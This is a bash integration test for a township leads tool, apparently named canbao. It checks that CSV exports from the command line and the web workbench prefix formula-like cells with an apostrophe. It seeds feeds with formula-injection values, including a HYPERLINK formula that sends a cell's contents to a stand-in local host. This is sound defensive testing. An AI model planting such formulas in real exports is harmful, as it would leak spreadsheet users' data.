#!/usr/bin/env bash
# csv_injection.sh -- exports cannot attack their reader (issue 21): a
# business registered under a spreadsheet formula as its name, and a
# household record whose event id is a formula, go through the feeds,
# the matcher and into every CSV a township opens (canbao leads and
# alerts, the workbench's leads.csv): each such cell starts with "'" there,
# and reads back as the text the feed sent.
. "$CANBAO_SOURCE_DIR/tests/integration/harness.sh"

T=2025-11-20
export CANBAO_NOW=$T
TA=320923001
cb_start_redis
cb_start_broker
cb_expect_exit 0 "targets" "$CANBAO" targets \
    "$CANBAO_SOURCE_DIR/data/townships-funing.csv"

NAME='=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"打开")'
EID='=1+2'
PID=320923198503071236
cat >"$CB_TMP/business.csv" <<CSV
event_id,uscc,name,kind,action,established_on,township_code,occurred_at
biz-1,91320923MA1M000011,"=HYPERLINK(""http://127.0.0.1:9/?leak=""&A2,""打开"")",enterprise,established,2025-03-01,$TA,2025-03-01T09:00:00+08:00
biz-2,91320923MA1M00002X,@SUM(A1),enterprise,established,2025-03-02,$TA,2025-03-02T09:00:00+08:00
CSV
cat >"$CB_TMP/household.csv" <<CSV
event_id,person_id,name,sex,birth_date,action,township_code,occurred_at
$EID,$PID,王小明,M,1985-03-07,resident,$TA,2025-01-02T09:00:00+08:00
-2+3,320923198001011233,李四,M,1980-01-01,resident,$TA,2025-01-03T09:00:00+08:00
CSV
"$CB_PY" - "$CB_TMP/business.csv" <<'PY'
import csv, sys
# the credit codes' check characters, computed here (GB 32100)
from stdnum.cn import uscc
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8")))
for r in rows[1:]:
    r[1] = r[1][:17] + uscc.calc_check_digit(r[1][:17])
csv.writer(open(sys.argv[1], "w", encoding="utf-8", newline="")).writerows(rows)
PY
cb_expect_exit 0 "produce business" "$CANBAO" produce business "$CB_TMP/business.csv"
cb_expect_exit 0 "produce household" "$CANBAO" produce household "$CB_TMP/household.csv"
cb_expect_exit 0 "match" "$CANBAO" match --until-idle 3

# Every cell of a CSV that starts with = + - @ tab or CR is a formula to
# a spreadsheet: none may; and the "'"-prefixed ones read back as the feed
# sent them.
check_csv() {
    "$CB_PY" - "$1" "$NAME" "$EID" "$2" <<'PY' || cb_fail "$2: a formula"
import csv, sys
path, name, eid, what = sys.argv[1:5]
rows = list(csv.reader(open(path, encoding="utf-8", newline="")))
cells = [c for r in rows for c in r]
bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
if bad:
    sys.exit("%s: formula cells %r" % (what, bad))
for want in (name, eid, "@SUM(A1)", "-2+3"):
    if "'" + want not in cells:
        sys.exit("%s: %r not found as text (cells: %r)" % (what, want,
                                                           cells[:40]))
print("%s: %d rows, no formula, each neutralised cell intact" %
      (what, len(rows)))
PY
    cb_pass "$2: formulas neutralised"
}

cb_expect_exit 0 "leads csv" "$CANBAO" leads --status all --format csv --unmasked
cp "$CB_TMP/out" "$CB_TMP/leads.csv"
check_csv "$CB_TMP/leads.csv" "canbao leads --format csv"

echo "ta-password" | "$CANBAO" user add ta --township "$TA" >/dev/null ||
    cb_fail "user add"
cb_start_web web
curl -sf -c "$CB_TMP/jar" -H 'Content-Type: application/json' \
    -d '{"name":"ta","password":"ta-password"}' "${URL}api/session" \
    >/dev/null || cb_fail "ta cannot sign in"
curl -sf -b "$CB_TMP/jar" "${URL}api/leads.csv?status=all" \
    >"$CB_TMP/web-leads.csv" || cb_fail "no leads.csv"
check_csv "$CB_TMP/web-leads.csv" "the workbench's leads.csv"
